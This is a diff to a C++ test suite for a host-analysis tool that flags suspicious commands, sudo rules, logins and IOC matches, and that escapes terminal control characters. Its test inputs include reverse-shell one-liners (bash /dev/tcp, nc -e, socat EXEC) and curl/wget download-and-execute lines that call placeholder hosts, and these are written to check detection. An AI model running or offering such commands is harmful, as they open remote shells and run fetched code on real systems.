@@ -6,6 +6,7 @@
 
 #include "agent/analysis/analyzer.h"
 #include "agent/analysis/catalog.h"
+#include "agent/analysis/ioc.h"
 #include "agent/analysis/patterns.h"
 
 using namespace hozen;
@@ -95,13 +96,24 @@ TEST_CASE("analysis patterns: paths, programs and command red flags", "[analysis
   CHECK(flags("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1") == std::vector<std::string>{"dev_tcp"});
   CHECK(flags("nc -e /bin/sh 10.0.0.1 4444") == std::vector<std::string>{"netcat_exec"});
   CHECK(flags("wget http://x/a -O /tmp/a; chmod +x /tmp/a; /tmp/a") ==
-        std::vector<std::string>{"download_chmod_exec"});
+        std::vector<std::string>{"download_chmod_exec", "runs_from_temp"});
+  CHECK(flags("bash <(curl -s http://x/i)") == std::vector<std::string>{"download_pipe_shell"});
+  CHECK(flags("sh -c \"$(curl -fsSL http://x/i)\"") == std::vector<std::string>{"download_pipe_shell"});
+  CHECK(flags("curl -so /tmp/x http://x/x; sh /tmp/x") == std::vector<std::string>{"runs_from_temp"});
+  CHECK(flags("socat TCP:10.0.0.1:4444 EXEC:/bin/bash") == std::vector<std::string>{"netcat_exec"});
   CHECK(flags("/dev/shm/.k") == std::vector<std::string>{"runs_from_temp"});
   // Benign look-alikes.
   CHECK(flags("test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )").empty());
   CHECK(flags("find /tmp -type f -mtime +10 -delete").empty());
   CHECK(flags("curl -s https://example.com/health > /dev/null").empty());
   CHECK(flags("/usr/bin/base64 /etc/hostname").empty());
+  CHECK(flags("flock -n /tmp/job.lock /usr/local/bin/backup").empty());  // the lock file is not run
+  CHECK(flags("nc -C mail.example 25 < /etc/motd").empty());            // -C: CRLF, not -c
+  // One pass: a crafted 4 MiB line of repeated words costs linear time (no timing asserted; a
+  // quadratic scan would take minutes here).
+  std::string huge;
+  for (int i = 0; i < 500'000; ++i) huge += "base64 socat ";
+  CHECK(flags(huge).empty());
 }
 
 TEST_CASE("analysis: every rule id the analyzer can raise is in the catalog, with both languages", "[analysis]") {
@@ -258,10 +270,11 @@ TEST_CASE("analysis: accounts, escalation attempts and admin logins from new sou
   });
   b.add([](auto& r) {
     auto& s = *r.mutable_sudoers_rule();
-    s.set_principal("%sudo");
+    s.set_principal("%sudo");  // %sudo ALL=(ALL:ALL) ALL
     s.set_principal_kind("group");
     s.set_is_group(true);
     s.set_can_become_root(true);
+    s.set_all_commands_as_root(true);
   });
   auto auth = [&](const std::string& kind, const std::string& who, bool ok, const std::string& src, std::int64_t t) {
     b.add([&](auto& r) {
@@ -448,10 +461,16 @@ TEST_CASE("analysis: a clean host raises no high-severity finding", "[analysis]"
     u.set_uid(0);
   });
   b.add([](auto& r) { r.mutable_kernel_taint()->set_value(0); });
-  for (const auto& f : b.analyze().findings) {
+  auto res = b.analyze();
+  for (const auto& f : res.findings) {
     INFO(f.rule_id() << ": " << f.summary());
     CHECK(f.severity() < v1::SEVERITY_MEDIUM);
   }
+  // Without a file sweep, H4 says it was not checked rather than nothing.
+  auto coverage = with_rule(res, "HZ-COVERAGE-NO-FILE-SWEEP");
+  REQUIRE(coverage.size() == 1);
+  CHECK(coverage[0]->checklist_id() == "H4");
+  CHECK(coverage[0]->severity() == v1::SEVERITY_INFO);
 }
 
 TEST_CASE("analysis: processes and services whose program anyone can overwrite", "[analysis]") {
@@ -482,4 +501,125 @@ TEST_CASE("analysis: processes and services whose program anyone can overwrite",
   auto svc = with_rule(res, "HZ-SERVICE-SUSPECT-COMMAND");
   REQUIRE(svc.size() == 1);
   CHECK(svc[0]->summary().find("world_writable") != std::string::npos);
+}
+
+TEST_CASE("analysis review fixes: upgrades, links, no dpkg, narrow sudo rules, pseudo-hosts", "[analysis]") {
+  Bundle b;
+  // sshd upgraded without restart: its listener and sessions are not an implant's.
+  b.add([](auto& r) { process(r, 50, "sshd", "/usr/sbin/sshd (deleted)").set_exe_deleted(true); });
+  b.add([](auto& r) { socket(r, v1::LISTENING, "0.0.0.0", 22, "0.0.0.0", 0, 50); });
+  b.add([](auto& r) { socket(r, v1::ESTABLISHED, "10.0.0.5", 22, "192.0.2.3", 50000, 50); });
+  b.add([](auto& r) { socket(r, v1::ESTABLISHED, "10.0.0.5", 41000, "192.0.2.4", 443, 50); });
+  // A symlink's mode is 0777: not a world-writable program.
+  b.add([](auto& r) {
+    auto& u = *r.mutable_systemd_unit();
+    u.set_name("py.service");
+    u.add_exec()->add_argv("/usr/bin/python3");
+  });
+  b.add([](auto& r) {
+    r.mutable_file_entry()->set_path("/usr/bin/python3");
+    r.mutable_file_entry()->set_mode(0120777);
+  });
+  // No dpkg database: a set-uid file under /usr/bin is not "unpackaged".
+  b.add([](auto& r) {
+    auto& f = *r.mutable_file_entry();
+    f.set_path("/usr/bin/sudo");
+    f.set_mode(0104755);
+    f.add_flags("suid");
+  });
+  // Accounts: carol may run one command as root, dave is admin through "#1003".
+  for (auto [name, uid] : {std::pair{"carol", 1002u}, std::pair{"dave", 1003u}}) {
+    b.add([&](auto& r) {
+      r.mutable_user_account()->set_name(name);
+      r.mutable_user_account()->set_uid(uid);
+    });
+  }
+  b.add([](auto& r) {
+    auto& s = *r.mutable_sudoers_rule();
+    s.set_principal("ALL");
+    s.set_principal_kind("all");
+    s.set_can_become_root(true);  // (root) /usr/bin/uptime only
+  });
+  b.add([](auto& r) {
+    auto& s = *r.mutable_sudoers_rule();
+    s.set_principal("#1003");
+    s.set_principal_kind("uid");
+    s.set_can_become_root(true);
+    s.set_all_commands_as_root(true);
+  });
+  for (const char* who : {"carol", "dave"}) {
+    b.add([&](auto& r) {
+      auto& e = *r.mutable_auth_event();
+      e.set_kind("sudo");
+      e.set_user(who);
+      e.set_time_utc_ns(kNow - kDay);
+    });
+  }
+  // Logins from tmux and an X display are not network sources.
+  for (int i = 0; i < 3; ++i) {
+    b.add([&](auto& r) {
+      auto& l = *r.mutable_login_record();
+      l.set_log("wtmp");
+      l.set_entry_type("USER_PROCESS");
+      l.set_user("root");
+      l.set_host(i == 0 ? "192.0.2.9" : i == 1 ? "tmux(1234).%0" : ":0");
+      l.set_time_utc_ns(kNow - (i == 0 ? 30 : 1) * kDay);
+    });
+  }
+  auto res = b.analyze();
+  CHECK(with_rule(res, "HZ-NET-LISTENER-SUSPECT-BINARY").empty());
+  CHECK(with_rule(res, "HZ-NET-SUSPECT-BINARY-CONNECTION").empty());
+  REQUIRE(with_rule(res, "HZ-PROC-DELETED-EXE").size() == 1);
+  CHECK(with_rule(res, "HZ-PROC-DELETED-EXE")[0]->severity() == v1::SEVERITY_MEDIUM);
+  CHECK(with_rule(res, "HZ-SERVICE-SUSPECT-COMMAND").empty());
+  CHECK(with_rule(res, "HZ-FILE-SUID-UNPACKAGED").empty());
+  auto esc = with_rule(res, "HZ-AUTH-UNPRIVILEGED-ESCALATION");
+  REQUIRE(esc.size() == 1);
+  CHECK(esc[0]->subject() == "carol");
+  CHECK(with_rule(res, "HZ-AUTH-ADMIN-NEW-SOURCE").empty());
+}
+
+TEST_CASE("analysis: IOC matches are grouped per indicator and record type", "[analysis][ioc]") {
+  auto iocs = analysis::IndicatorSet::parse("203.0.113.7\nprocess:xmrig\n", "list.txt");
+  REQUIRE(iocs);
+  analysis::AnalysisOptions o;
+  o.now_utc_ns = kNow;
+  o.iocs = &*iocs;
+  Analyzer a(o);
+  for (std::uint64_t i = 0; i < 1000; ++i) {
+    v1::Record r;
+    r.set_index(i);
+    auto& e = *r.mutable_auth_event();
+    e.set_kind("ssh_invalid_user");
+    e.set_user("admin");
+    e.set_source_address("203.0.113.7");
+    a.observe(r);
+  }
+  v1::Record p;
+  p.set_index(1000);
+  process(p, 7, "xmrig", "/usr/bin/xmrig");
+  a.observe(p);
+  auto res = a.finish();
+  auto hits = with_rule(res, "IOC-MATCH");
+  REQUIRE(hits.size() == 2);
+  for (const auto* f : hits) {
+    CHECK(f->severity() == v1::SEVERITY_CRITICAL);
+    CHECK(f->evidence_size() <= 32);
+    REQUIRE(f->indicators_size() >= 1);
+    CHECK(f->indicators(0).ioc_source().starts_with("list.txt:"));
+  }
+  const auto* auth = hits[0]->subject() == "203.0.113.7" ? hits[0] : hits[1];
+  CHECK(auth->checklist_id() == "A2");
+  CHECK(auth->summary().find("matched 1000 auth_event record(s)") != std::string::npos);
+}
+
+TEST_CASE("analysis: terminal lines escape what a terminal would act on", "[analysis]") {
+  using analysis::terminal_safe;
+  CHECK(terminal_safe("plain /tmp/x") == "plain /tmp/x");
+  CHECK(terminal_safe("\x1b[31mred") == "\\x1b[31mred");
+  CHECK(terminal_safe("\xff\x80\x80") == "\\xff\\x80\\x80");
+  CHECK(terminal_safe("\xe2\x80\xae" "gpj.exe") == "\\xe2\\x80\\xaegpj.exe");  // RLO
+  CHECK(terminal_safe("\xc2\x9b" "c") == "\\xc2\\x9bc");                      // C1 CSI
+  CHECK(terminal_safe("\xe3\x83\x95\xe3\x82\xa1\xe3\x82\xa4\xe3\x83\xab") == "\xe3\x83\x95\xe3\x82\xa1\xe3\x82\xa4\xe3\x83\xab");
+  CHECK(terminal_safe("\xed\xa0\x80") == "\\xed\\xa0\\x80");  // a surrogate
 }
